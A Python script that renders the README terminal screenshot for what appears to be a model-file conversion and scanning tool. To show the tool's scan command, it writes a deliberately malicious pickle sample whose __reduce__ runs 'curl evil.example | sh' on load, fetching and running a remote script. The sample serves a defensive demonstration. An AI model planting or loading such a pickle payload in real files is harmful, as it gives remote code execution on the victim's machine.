"""Draw docs/picture.svg, the picture in the README: commands and what they print.

    python docs/picture.py [OUTPUT]

Needs rich. The commands are run on the bundled model, in a temporary folder.
"""

from __future__ import annotations

import os
import pickle
import subprocess
import sys
import tempfile
from io import StringIO
from pathlib import Path

from rich.console import Console
from rich.terminal_theme import DIMMED_MONOKAI
from rich.text import Text

ROOT = Path(__file__).resolve().parents[1]
WIDTH = 108
COMMANDS = (
    "inspect cgpt-demo/pytorch_model.bin --stats --match '*.h.0.mlp.*'",
    "scan cgpt-demo/pytorch_model.bin stranger.bin",
    "convert cgpt-demo/pytorch_model.bin -o model.safetensors",
    "verify cgpt-demo/pytorch_model.bin model.safetensors",
)
# rich's own template without its web fonts
TEMPLATE = """\
<svg viewBox="0 0 {width} {height}" xmlns="http://www.w3.org/2000/svg">
<style>
.{unique_id}-matrix {{ font-family: Menlo, Consolas, "DejaVu Sans Mono", monospace;
  font-size: {char_height}px; line-height: {line_height}px; }}
{styles}
</style>
<defs>
<clipPath id="{unique_id}-clip-terminal">
<rect x="0" y="0" width="{terminal_width}" height="{terminal_height}"/>
</clipPath>
{lines}
</defs>
<rect fill="#191919" width="{width}" height="{height}" rx="8"/>
<g transform="translate({terminal_x}, 16)" clip-path="url(#{unique_id}-clip-terminal)">
{backgrounds}
<g class="{unique_id}-matrix">
{matrix}
</g>
</g>
</svg>
"""


class _Command:
    """An object whose pickle runs a command when it is loaded."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, ("curl evil.example | sh",)


def _run(words: str, folder: Path) -> str:
    """Return what the command prints, with colours."""
    done = subprocess.run(  # noqa: S602 - the commands above
        f"{sys.executable} -m cgpt_convert {words}",
        shell=True,
        cwd=folder,
        env={**os.environ, "PYTHONPATH": str(ROOT), "FORCE_COLOR": "1", "COLUMNS": str(WIDTH)},
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
        check=False,
    )
    return done.stdout


def picture() -> str:
    """Return the picture as SVG."""
    console = Console(
        record=True, width=WIDTH, file=StringIO(), force_terminal=True, legacy_windows=False
    )
    with tempfile.TemporaryDirectory() as made:
        folder = Path(made)
        _run("demo", folder)
        (folder / "stranger.bin").write_bytes(pickle.dumps(_Command(), 4))
        for words in COMMANDS:
            console.print(Text(f"$ cgpt-convert {words}", style="bold"))
            console.print(Text.from_ansi(_run(words, folder)))
    svg = console.export_svg(
        title="", theme=DIMMED_MONOKAI, code_format=TEMPLATE, unique_id="terminal"
    )
    return "\n".join(line.rstrip() for line in svg.splitlines()) + "\n"


if __name__ == "__main__":
    target = Path(sys.argv[1]) if len(sys.argv) > 1 else ROOT / "docs" / "picture.svg"
    target.write_text(picture(), encoding="utf-8")
